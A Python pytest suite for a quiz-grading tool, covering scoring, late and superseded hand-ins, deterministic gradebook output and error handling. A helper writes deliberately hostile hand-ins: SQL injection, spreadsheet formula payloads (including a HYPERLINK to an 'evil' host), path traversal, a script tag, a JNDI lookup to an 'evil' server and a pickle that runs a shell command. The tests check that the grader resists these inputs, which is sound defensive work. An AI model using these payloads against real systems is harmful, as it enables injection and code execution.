"""Grading of a folder: scores, the rule for several files, what is reported, and that equal files give equal bytes."""

from __future__ import annotations

import io
import itertools
import json
import random
import shutil
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console

from spinemets.quiz import bank
from spinemets.quiz.handin import variant_of
from spinemets.teach import counting, grade, gradebook
from spinemets.teach.grade import Standing, file, key_of, marked, settled
from spinemets.teach.gradebook import COUNTS, LATE, SUPERSEDED, GradebookError
from spinemets.teach.reading import HandIn, parsed

from .hand_ins import STEM, content, packed, put, released, table


@pytest.fixture
def folder(tmp_path) -> Path:
    """For hand-ins."""
    made = tmp_path / "in"
    made.mkdir()
    return made


@pytest.fixture
def out(tmp_path) -> Path:
    return tmp_path / "gradebook.csv"


def graded(folder: Path, out: Path, **options):
    """The summary and the report."""
    said: list[str] = []
    summary = grade.grade(folder, out, say=said.append, workers=1, **options)
    return summary, said


def scored(release, **hand_in):
    """What the sample's key gives a hand-in: score and problem of each item."""
    found = parsed(packed(content(release, **hand_in)).encode(), "ann.json", {release.id: "Sample"})
    return marked(key_of(release), found)


def edit_bank(course: Path, old: str, new: str) -> None:
    path = course / "quizzes" / f"{STEM}.yml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


# --- one hand-in ------------------------------------------------------------------------------------------------------


def test_right_answers_to_every_type_of_item_get_every_point(release):
    found = scored(release)
    assert [one.problem for one in found.answers] == [""] * 9
    assert (found.score, found.possible, found.status) == (9, 9, COUNTS)
    assert {one.item: one.score for one in found.answers} == {id: 1 for id, _ in release.items}
    assert all(one.seconds == 12 for one in found.answers)


@pytest.mark.parametrize(
    ("item", "answer", "score"),
    [
        ("marbles", 0, 0), ("even-faces", [0], 0.5), ("even-faces", [0, 1, 2], 0.5), ("share-red", 25, 0),
        ("way-of-a-marble", [0, 1, 2, 3], None), ("who-draws-what", [None, None, None], 0),
        ("place-of-a-marble", 0, 0), ("name-of-the-game", " Marble! ", 1), ("name-of-the-game", "die", 0),
        ("marbles", None, 0),
    ],
)  # fmt: skip
def test_wrong_and_half_right_answers_get_what_the_practice_gives(release, item, answer, score):
    found = {one.item: one for one in scored(release, answers={item: answer}).answers}
    assert found[item].problem == ""
    if score is not None:
        assert found[item].score == score
    assert sum(one.score for one in found.values()) == pytest.approx(8 + found[item].score)


@pytest.mark.parametrize(
    ("item", "answer"),
    [
        ("marbles", "1"), ("marbles", True), ("marbles", -1), ("marbles", 3), ("marbles", [1]), ("marbles", 10**20),
        ("even-faces", 0), ("even-faces", [9]), ("even-faces", {"0": 1}), ("even-faces", list(range(200))),
        ("share-red", "75"), ("share-red", {"__class__": "float"}), ("way-of-a-marble", [0, 0, 1, 2]),
        ("way-of-a-marble", "0123"), ("who-draws-what", [0]), ("who-draws-what", [9, 9, 9]), ("place-of-a-marble", 2.0),
        ("name-of-the-game", "x" * 201), ("name-of-the-game", 7), ("dose-of-marbles", 12),
        ("dose-of-marbles", {"variant": 0, "value": 1, "score": 1}), ("dose-of-marbles", {"variant": 99, "value": 1}),
        ("dose-of-marbles", {"variant": "__init__", "value": 1}),
    ],
    ids=itertools.count(),
)  # fmt: skip
def test_a_malformed_answer_costs_its_item_and_no_other(release, item, answer):
    found = {one.item: one for one in scored(release, answers={item: answer}).answers}
    assert found[item].score == 0 and found[item].problem and len(found[item].problem) < 310
    assert all(one.score == 1 and not one.problem for id, one in found.items() if id != item)


def test_another_student_s_variant_is_not_graded(release):
    item = next(item for item in bank.load(STEM).items if item.id == "dose-of-marbles")
    mine = variant_of("ann", item.id, item.variants)
    theirs = (mine + 1) % item.variants
    found = scored(release, answers={item.id: {"variant": theirs, "value": item.drawn()[theirs].answer}})
    answer = found.answers[-1]
    assert (answer.item, answer.score) == (item.id, 0)
    assert answer.problem == f"variant {theirs} was answered; this student was asked variant {mine}"


def test_an_item_answered_twice_another_version_and_unknown_items_are_reported(release):
    given_ = content(release)
    given_["answers"].append(given_["answers"][0])
    given_["answers"][1]["hash"] = "0" * 12
    given_["answers"] += [{"item": f"item{n}\u202e", "hash": "h", "answer": 1} for n in range(7)]
    del given_["answers"][2]
    found = marked(key_of(release), parsed(packed(given_).encode(), "f", {release.id: ""}))
    first, second, third = found.answers[:3]
    assert (first.score, first.answer, first.problem) == (0, None, "answered 2 times in one file")
    assert (second.score, second.problem) == (0, "another version of the question was answered (000000000000)")
    assert (third.score, third.answer, third.problem) == (0, None, "")
    assert "item0\\u202e, item1" in found.reason and found.reason.endswith(" and 2 more")
    assert found.score == 6


def test_a_hand_in_of_another_release_is_refused(release, folder):
    other = released(title="Other")
    put(folder, "a.json", content(other))
    found = file(key_of(release), folder / "a.json")
    assert (found.status, found.answers) == ("refused", ()) and "Other" in found.reason


def test_an_oddity_of_one_file_never_ends_the_run(release, folder, monkeypatch):
    monkeypatch.setattr(grade, "read", lambda *_: 1 / 0)
    found = file(key_of(release), folder / "a.json")
    assert found.status == "refused" and "ZeroDivisionError" in found.reason


# --- the bank has changed since the release ---------------------------------------------------------------------------


def test_a_mended_key_grades_everybody_anew(release, course, folder, out):
    put(folder, "a.json", content(release, answers={"last-marble": 0}))
    graded(folder, out)
    before = float(table(out)[0]["score"])
    assert before == 9
    edit_bank(course, "{text: A year, correct: true,", "{text: A year,")
    edit_bank(course, "{text: A day,", "{text: A day, correct: true,")
    graded(folder, out)
    assert float(table(out)[0]["score"]) == 8


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("What is the share of red marbles?", "What is the share of blue marbles?", "its text was changed"),
        ("id: share-red", "id: share-of-red", "not in quizzes/01-sample any more"),
    ],
)
def test_a_changed_question_is_counted_for_nobody_and_said_once(release, course, folder, out, old, new, why):
    put(folder, "a.json", content(release))
    put(folder, "b.json", content(release, student="ben", answers={"share-red": 3}))
    edit_bank(course, old, new)
    _, said = graded(folder, out)
    assert len(said) == 1 and said[0].startswith("not counted for anybody: share-red: ") and why in said[0]
    for row in table(out):
        assert (row["score"], row["possible"], row["percent"], row["share-red"]) == ("8", "8", "100", "")
    with gradebook.reading(out) as connection:
        row = next(gradebook.students(connection, release.id))
        assert row.answers["share-red"].problem and row.answers["share-red"].answer == "75.0"


# --- several files of one student -------------------------------------------------------------------------------------


def standing(id, finished, status=COUNTS, name="Ann"):
    return Standing(id, f"{id}.json", name, f"2026-11-{finished:02}T00:00:00.000Z", status, "")


def test_the_last_in_time_counts_and_of_equal_ones_the_last_name():
    found = settled([standing(1, 7), standing(2, 9), standing(3, 9), standing(4, 8), standing(5, 20, LATE)])
    assert [one.status for one in found] == [SUPERSEDED, SUPERSEDED, COUNTS, SUPERSEDED, LATE]
    assert found[0].reason == "3.json counts" and found[2].reason == ""


def test_late_files_alone_stay_late():
    assert [one.status for one in settled([standing(1, 1, LATE), standing(2, 2, LATE)])] == [LATE, LATE]


def test_one_id_with_several_names_is_said_of_each_of_its_files_and_briefly():
    found = settled([standing(n, 1, name=f"Name {n:02}") for n in range(20)])
    assert all("one id, several names: Name 00, Name 01" in one.reason for one in found)
    assert all("and 15 more" in one.reason and len(one.reason) < 120 for one in found)
    assert settled([standing(1, 1, name="Ann"), standing(2, 2, name="ANN")])[1].reason == ""


def test_one_student_under_several_spellings_of_one_id(release, folder, out):
    put(folder, "a.json", content(release, student="Ann-7", finished="2026-11-20T10:00:00Z"))
    put(
        folder,
        "b.json",
        content(release, student=" ann-7 ", finished="2026-11-20T12:00:00+05:00", answers={"marbles": 0}),
    )
    summary, said = graded(folder, out)
    (row,) = table(out)
    assert (row["student"], row["file"], row["score"]) == ("ann-7", "a.json", "9")
    assert said == ["b.json: superseded: a.json counts"]
    assert (summary.files, summary.students, summary.counts, summary.superseded) == (2, 1, 1, 1)


def test_a_late_file_does_not_count_unless_accepted(release, folder, out):
    put(folder, "a.json", content(release, finished="2026-12-31T23:59:59.999Z", answers={"marbles": 0}))
    put(folder, "b.json", content(release, finished="2027-01-01T00:00:00Z"))
    put(folder, "c.json", content(release, student="ben", finished="2027-01-01T00:00:00Z"))
    summary, said = graded(folder, out)
    ann, ben = table(out)
    assert (ann["file"], ann["score"], ann["status"]) == ("a.json", "8", "counts")
    assert (ben["score"], ben["percent"], ben["marbles"], ben["status"]) == ("", "", "", "late")
    assert summary.late == 2 and any("after 2026-12-31T23:59:59.999Z" in line for line in said)
    graded(folder, out, late=True)
    ann, ben = table(out)
    assert (ann["file"], ann["score"], ben["score"]) == ("b.json", "9", "9") and "accepted" in ben["problems"]


# --- a folder ---------------------------------------------------------------------------------------------------------


def hostile(folder: Path, release) -> None:
    """Files that try SQL, HTML, formulas, paths, prototype keys, huge and deep and broken things."""
    evil = [
        ("'; DROP TABLE hand_in; --", "Robert'); DELETE FROM answer; --"),
        ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","x")'),
        ("../../etc/passwd", "<script>alert(1)</script>"),
        ("__proto__", "\uff1d1+1"),
        ("@sum(a1)", 'x";=1+1'),
        ("{0.__class__}", "%s%s%n ${jndi:ldap://evil}"),
    ]
    for n, (id, name) in enumerate(evil):
        put(folder, f"evil{n}.json", content(release, student=id, name=name, answers={"name-of-the-game": "<b>" + id}))
    put(folder, "=1+1.json", content(release, student="formula-file", answers={"marbles": "=1+1"}))
    (folder / "deep.json").write_text("[" * 200_000)
    (folder / "huge.json").write_bytes(b" " * 1_000_001)
    (folder / "noise.json").write_bytes(random.Random(7).randbytes(5000))
    (folder / "code.py").write_text("raise SystemExit('executed')")
    (folder / "pickle.json").write_bytes(b"cos\nsystem\n(S'touch executed'\ntR.")
    (folder / "folder").mkdir()
    for n in range(3):
        given_ = content(release, student=f"many{n}")
        given_["answers"] = given_["answers"] * 100
        put(folder, f"many{n}.json", given_)


def test_hostile_files_are_reported_one_by_one_and_leave_other_grades_alone(release, folder, out, tmp_path):
    for n in range(5):
        put(folder, f"good{n}.json", content(release, student=f"good{n}", name=f"Good {n}", answers={"marbles": n % 3}))
    graded(folder, out)
    alone = {row["student"]: row for row in table(out)}
    hostile(folder, release)
    summary, said = graded(folder, out)
    together = {row["student"]: row for row in table(out)}
    assert {id: together[id] for id in alone} == alone
    assert summary.refused == 6 and summary.files == 21
    for name in ("deep", "huge", "noise", "code", "pickle", "folder"):
        assert sum(line.startswith((f"{name}.", f"{name}:")) for line in said) == 1, name
    assert not list(tmp_path.rglob("executed")) and sorted(path.name for path in tmp_path.iterdir()) == [
        "course", "gradebook.csv", "gradebook.sqlite", "in"
    ]  # fmt: skip
    raw = out.read_text(encoding="utf-8-sig")
    for row in table(out):
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), cell
    assert "';=1" not in raw and ";'=1+1" in raw
    assert together["'; drop table hand_in;' --"]["score"] == "8"


def test_equal_files_give_equal_bytes_whatever_the_order_and_the_number_of_processes(
    release, folder, tmp_path, monkeypatch
):
    monkeypatch.setattr(grade, "CHUNK", 4)
    hostile(folder, release)
    for n in range(12):
        put(folder, f"s{n}.json", content(release, student=f"s{n % 8}", name=f"N{n % 5}", answers={"marbles": n % 3}))
    books = []
    for number, workers in enumerate((1, 3)):
        copy = tmp_path / f"copy{number}"
        copy.mkdir()
        names = sorted(path.name for path in folder.iterdir())
        random.Random(number).shuffle(names)
        for name in names:
            (shutil.copytree if (folder / name).is_dir() else shutil.copy)(folder / name, copy / name)
        target = tmp_path / f"out{number}" / "gradebook.csv"
        target.parent.mkdir()
        said: list[str] = []
        grade.grade(copy, target, workers=workers, say=said.append)
        books.append((target.read_bytes(), target.with_suffix(".sqlite").read_bytes(), said))
    assert books[0] == books[1]
    graded(folder, tmp_path / "out0" / "gradebook.csv")
    assert (tmp_path / "out0" / "gradebook.csv").read_bytes() == books[0][0]


def test_files_are_taken_by_name_whatever_the_order_of_the_folder(folder, out, monkeypatch):
    for name in ("b", "a", "C", "\xe9", "10", "9"):
        (folder / name).write_text("{}")
    real = Path.iterdir
    for order in (False, True):
        with monkeypatch.context() as patch:
            patch.setattr(Path, "iterdir", lambda self, order=order: iter(sorted(real(self), reverse=order)))
            assert grade.listed(folder, out) == ["10", "9", "C", "a", "b", "\xe9"]


def test_a_process_gets_no_more_files_than_fit_in_memory(release, folder, monkeypatch):
    submitted, taken = 0, 0

    class Pool:
        def __init__(self, *_, **__): ...
        def __enter__(self):
            return self

        def __exit__(self, *_): ...
        def shutdown(self, **_): ...

        def submit(self, work, chunk):
            nonlocal submitted
            submitted += 1
            assert submitted - taken <= 5
            return type("Done", (), {"result": lambda self: [chunk]})()

    monkeypatch.setattr(grade, "ProcessPoolExecutor", Pool)
    monkeypatch.setattr(grade, "CHUNK", 2)
    names = [f"{n:03}" for n in range(100)]
    seen = []
    for chunk in grade.filed(key_of(release), folder, names, 2):
        taken += 1
        seen += chunk[0]
    assert seen == names and submitted == 50


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_any_answer_to_any_item_gets_a_score_between_0_and_1(release, data):
    values = st.recursive(
        st.none() | st.booleans() | st.integers(-3, 12) | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
        lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.sampled_from(["variant", "value", "x"]), inner),
        max_leaves=8,
    )
    answers = {id: data.draw(values) for id, _ in release.items}
    found = parsed(packed(content(release, answers=answers)).encode(), "f", {release.id: ""})
    if isinstance(found, HandIn):
        for one in marked(key_of(release), found).answers:
            assert 0 <= one.score <= 1 and (one.score == 0 or not one.problem)
            assert one.answer is None or json.loads(one.answer) == answers[one.item]


# --- what is asked for does not work ----------------------------------------------------------------------------------


def test_folders_releases_and_places_that_do_not_work_are_explained(course, folder, out, tmp_path):
    for wrong, said in ((folder, "empty"), (tmp_path / "none", "no such folder")):
        with pytest.raises(GradebookError, match=said):
            graded(wrong, out)
    (folder / "a.json").write_text("{}")
    with pytest.raises(GradebookError, match="released nothing yet"):
        graded(folder, out)
    one, two = released(title="One"), released(title="Two")
    with pytest.raises(GradebookError, match=r"Which release\?.*\(One\).*\(Two\)|Which release\?.*\(Two\).*\(One\)"):
        graded(folder, out)
    with pytest.raises(GradebookError, match="no release 'x'"):
        graded(folder, out, release="x")
    with pytest.raises(GradebookError, match="among the hand-ins"):
        graded(folder, folder / "gradebook.csv")
    with pytest.raises(GradebookError, match="Name a file in a folder"):
        graded(folder, tmp_path / "none" / "gradebook.csv", release=one.id)
    with pytest.raises(GradebookError, match="CSV file"):
        graded(folder, tmp_path / "book.sqlite", release=two.id)
    assert graded(folder, out, release=one.id)[0].refused == 1


def test_ctrl_c_and_errors_leave_the_old_gradebook(release, folder, out, tmp_path, monkeypatch):
    put(folder, "a.json", content(release))
    graded(folder, out)
    before = {path: path.read_bytes() for path in (out, out.with_suffix(".sqlite"))}
    put(folder, "b.json", content(release, student="ben"))
    for error in (KeyboardInterrupt, OSError(28, "No space left on device")):
        with monkeypatch.context() as patch:

            def broken(*_, error=error):
                raise error

            patch.setattr(gradebook, "write_table", broken)
            with pytest.raises((KeyboardInterrupt, GradebookError)):
                graded(folder, out)
        assert {path: path.read_bytes() for path in before} == before
        assert sorted(path.name for path in tmp_path.iterdir()) == ["course", "gradebook.csv", "gradebook.sqlite", "in"]


# --- how far it is ----------------------------------------------------------------------------------------------------


def test_elsewhere_than_on_a_terminal_each_tenth_is_a_line():
    stream = io.StringIO()
    with counting.counted(1000, "graded", Console(file=stream, width=80)) as advance:
        for _ in range(100):
            advance(10)
    lines = stream.getvalue().splitlines()
    assert lines == [f"graded {n:,} of 1,000" for n in range(100, 1001, 100)]


def test_on_a_terminal_there_is_a_bar():
    stream = io.StringIO()
    with counting.counted(10, "graded", Console(file=stream, width=80, force_terminal=True)) as advance:
        advance(10)
    assert "10/10" in stream.getvalue()


def test_a_run_that_is_left_ends_its_processes(release, folder, monkeypatch):
    monkeypatch.setattr(grade, "CHUNK", 1)
    for n in range(8):
        put(folder, f"{n}.json", content(release, student=f"s{n}"))
    pools = []
    real = grade.ProcessPoolExecutor
    monkeypatch.setattr(
        grade, "ProcessPoolExecutor", lambda *args, **more: pools.append(real(*args, **more)) or pools[0]
    )
    with closing(grade.filed(key_of(release), folder, sorted(path.name for path in folder.iterdir()), 2)) as files:
        assert next(files)[0].student == "s0"
        processes = list(pools[0]._processes.values())
    assert processes and not any(process.is_alive() for process in processes)


def test_an_answer_larger_than_any_is_reported_and_not_kept(release, folder, out):
    put(folder, "a.json", content(release, answers={"marbles": "x" * 400_000, "share-red": 75}))
    graded(folder, out)
    with gradebook.reading(out) as connection:
        (kept,) = gradebook.answers(connection, gradebook.shown_ids(connection, release.id)).values()
    by_item = {one.item: one for one in kept}
    assert by_item["marbles"].answer is None
    assert "expected the place of an option" in by_item["marbles"].problem
    assert by_item["share-red"].answer == "75"
